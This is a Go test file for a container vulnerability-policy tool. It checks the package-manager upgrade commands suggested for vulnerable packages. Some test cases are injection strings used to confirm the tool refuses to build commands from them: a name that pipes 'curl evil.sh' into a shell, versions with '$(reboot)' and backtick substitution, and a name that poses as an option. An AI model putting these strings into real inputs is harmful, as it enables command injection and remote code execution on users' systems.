// SPDX-License-Identifier: Apache-2.0

package verdict_test

import (
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/ocigate/ocigate/pkg/evidence"
	"github.com/ocigate/ocigate/pkg/policy"
	"github.com/ocigate/ocigate/pkg/verdict"
)

func lib(kind, name, version, fixed string) evidence.Finding {
	return evidence.Finding{
		Kind: evidence.KindVulnerability, ID: "CVE-1", Severity: evidence.SeverityCritical, FixedVersion: fixed,
		Package: &evidence.Package{Name: name, Version: version, Type: kind, Class: evidence.ClassLanguage, Path: "p"},
	}
}

func distro(family, name, version, fixed string) evidence.Finding {
	f := lib(family, name, version, fixed)
	f.Package.Class, f.Package.Path = evidence.ClassOS, ""
	return f
}

func TestFixText(t *testing.T) {
	const none = "no fix is known yet: waive with an end date or remove the package"
	for _, tt := range []struct {
		name string
		f    evidence.Finding
		want string
	}{
		{"apk", distro("alpine", "openssl", "1.1.1c-r0", "1.1.1k-r0"), "upgrade openssl 1.1.1c-r0 → 1.1.1k-r0 (apk add --no-cache --upgrade 'openssl>=1.1.1k-r0')"},
		{"apt", distro("debian", "libc6", "2.31-13", "2.31-13+deb11u5"), "upgrade libc6 2.31-13 → 2.31-13+deb11u5 (apt-get install -y --only-upgrade libc6=2.31-13+deb11u5)"},
		{"dnf", distro("rocky", "zlib", "1-1", "1-2"), "upgrade zlib 1-1 → 1-2 (dnf update -y zlib)"},
		{"zypper", distro("sles", "zlib", "1-1", "1-2"), "upgrade zlib 1-1 → 1-2 (zypper update -y zlib)"},
		{"tdnf", distro("photon", "zlib", "1-1", "1-2"), "upgrade zlib 1-1 → 1-2 (tdnf update -y zlib)"},
		{"npm", lib("node-pkg", "@a/b", "1.0.0", "1.2.0"), "upgrade @a/b 1.0.0 → 1.2.0 (npm install '@a/b@^1.2.0')"},
		{"pip", lib("python-pkg", "flask", "1.0", "1.2"), "upgrade flask 1.0 → 1.2 (pip install flask==1.2)"},
		{"go", lib("gobinary", "golang.org/x/net", "v0.1.0", "0.7.0"), "upgrade golang.org/x/net v0.1.0 → 0.7.0 (go get golang.org/x/net@v0.7.0)"},
		{"go itself", lib("gobinary", "stdlib", "v1.20.0", "1.19.9, 1.20.4"), "upgrade stdlib v1.20.0 → 1.20.4 (rebuild with Go 1.20.4)"},
		{"maven", lib("jar", "org.x:y", "2.0", "2.17.1"), "upgrade org.x:y 2.0 → 2.17.1 (mvn versions:use-dep-version -Dincludes=org.x:y -DdepVersion=2.17.1)"},
		{"gradle", lib("gradle", "org.x:y", "2.0", "2.1"), "upgrade org.x:y 2.0 → 2.1 (set org.x:y:2.1 in build.gradle)"},
		{"cargo", lib("rustbinary", "time", "0.1.0", "0.2.23"), "upgrade time 0.1.0 → 0.2.23 (cargo update -p time --precise 0.2.23)"},
		{"gem", lib("gemspec", "rack", "2.0.0", "2.1.4, 3.0.1"), "upgrade rack 2.0.0 → 2.1.4 (bundle update rack)"},
		{"composer", lib("composer", "a/b", "1.0.0", "1.0.1"), "upgrade a/b 1.0.0 → 1.0.1 (composer require 'a/b:^1.0.1')"},
		{"nuget", lib("dotnet-core", "A.B", "1.0.0", "1.0.1"), "upgrade A.B 1.0.0 → 1.0.1 (dotnet add package A.B --version 1.0.1)"},
		{"branch of the installed version", lib("node-pkg", "x", "2.1.0", "1.9.5, 2.2.1, 3.0.0"), "upgrade x 2.1.0 → 2.2.1 (npm install 'x@^2.2.1')"},
		{"versions without an order", lib("jar", "x", "1.Final", "2.Final, 3.Final"), "upgrade x 1.Final → 2.Final or 3.Final"},
		{"unknown ecosystem", lib("swift", "x", "1.0.0", "1.0.1"), "upgrade x 1.0.0 → 1.0.1"},
		{"no fix", lib("node-pkg", "x", "1.0.0", ""), none},
		{"empty list", lib("node-pkg", "x", "1.0.0", " , "), none},
		{"no package", evidence.Finding{Kind: evidence.KindVulnerability, Severity: evidence.SeverityCritical, FixedVersion: "1"}, none},
		{"name that is a command", lib("node-pkg", "x;curl evil.sh|sh", "1.0.0", "1.0.1"), "upgrade x;curl evil.sh|sh 1.0.0 → 1.0.1"},
		{"version that is a command", lib("node-pkg", "x", "1.0.0", "$(reboot)"), "upgrade x 1.0.0 → $(reboot)"},
		{"version that is a substitution", distro("alpine", "x", "1", "2`reboot`"), "upgrade x 1 → 2`reboot` (apk add --no-cache --upgrade x)"},
		{"a tilde", distro("debian", "libssl3", "3.0.9-1", "3.0.11-1~deb12u2"), "upgrade libssl3 3.0.9-1 → 3.0.11-1~deb12u2 (apt-get install -y --only-upgrade 'libssl3=3.0.11-1~deb12u2')"},
		{"a version of the source only", distro("debian", "libdevmapper", "2:1.02.185-2", "2.03.16-3"), "upgrade libdevmapper 2:1.02.185-2 → 2.03.16-3 (apt-get install -y --only-upgrade libdevmapper)"},
		{"name that is an option", distro("alpine", "--root=/", "1", "2"), "upgrade --root=/ 1 → 2"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			o := outcome(decide(rules(critical), found(tt.f)), "no-critical")
			if len(o.Violations) != 1 || o.Violations[0].Fix != tt.want {
				t.Errorf("got  %+v\nwant %s", o.Violations, tt.want)
			}
		})
	}
}

func TestRPMTool(t *testing.T) {
	f := distro("redhat", "zlib", "1-1", "1-2")
	for _, tt := range []struct{ tool, release, want string }{
		{"microdnf", "8.6", "microdnf update -y zlib"},
		{"dnf", "7", "dnf update -y zlib"},
		{"bash", "7.9", "yum update -y zlib"},
		{"bash", "9.1", "dnf update -y zlib"},
		{"bash", "2023.1", "dnf update -y zlib"},
	} {
		ev := found(f)
		ev.Packages = []evidence.Package{{Name: tt.tool, Class: evidence.ClassOS}}
		ev.Coverage.OS = evidence.OSFacts{Family: "redhat", Release: tt.release}
		fixes := verdict.Fixes(decide(rules(critical), ev).Subjects[0])
		if len(fixes) != 1 || fixes[0].Command != tt.want {
			t.Errorf("%+v: %+v", tt, fixes)
		}
	}
}

func TestFixes(t *testing.T) {
	id := func(id string, f evidence.Finding) evidence.Finding { f.ID = id; return f }
	src := func(f evidence.Finding) evidence.Finding { f.Package.SourceName = "openssl"; return f }
	path := func(p string, f evidence.Finding) evidence.Finding { f.Package.Path = p; return f }
	ev := found(
		id("CVE-1", lib("node-pkg", "lodash", "4.17.10", "4.17.11")),
		id("CVE-2", lib("node-pkg", "lodash", "4.17.10", "4.17.21")),
		id("CVE-2", path("other", lib("node-pkg", "lodash", "4.17.10", "4.17.21"))),
		id("CVE-2", lib("node-pkg", "lodash", "3.0.0", "4.17.21")),
		id("CVE-3", src(distro("alpine", "libssl", "1.1.1c-r0", "1.1.1k-r0"))),
		id("CVE-3", src(distro("alpine", "libcrypto", "1.1.1c-r0", "1.1.1k-r0"))),
		id("CVE-4", src(distro("alpine", "libssl", "1.1.1c-r0", "1.1.1d-r2"))),
		id("CVE-4", src(distro("alpine", "libcrypto", "1.1.1c-r0", "1.1.1d-r2"))),
		id("CVE-5", lib("jar", "a:b", "1.Final", "2.Final")),
		id("CVE-6", lib("jar", "a:b", "1.Final", "3.Final")),
		id("CVE-7", lib("jar", "a:c", "1", "")),
	)
	low := lib("node-pkg", "minimist", "1.0.0", "1.2.6")
	low.Severity = evidence.SeverityLow
	ev.Findings = append(ev.Findings, low)
	warn := asWarning(vulnRule("all", policy.VulnerabilityRule{}))
	got := verdict.Fixes(decide(rules(critical, vulnRule("again", *critical.Vulnerabilities), warn), ev).Subjects[0])
	want := []verdict.Fix{
		{Package: "openssl", From: "1.1.1c-r0", To: "1.1.1k-r0", Command: "apk add --no-cache --upgrade 'libcrypto>=1.1.1k-r0' 'libssl>=1.1.1k-r0'", Clears: 4},
		{Package: "lodash", From: "4.17.10", To: "4.17.21", Command: "npm install 'lodash@^4.17.21'", Clears: 3},
		{Package: "a:b", From: "1.Final", To: "2.Final, 3.Final", Clears: 2},
		{Package: "lodash", From: "3.0.0", To: "4.17.21", Command: "npm install 'lodash@^4.17.21'", Clears: 1},
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("(-want +got):\n%s", d)
	}
	if f := verdict.Fixes(verdict.SubjectVerdict{}); len(f) != 0 {
		t.Errorf("fixes of nothing: %v", f)
	}
}
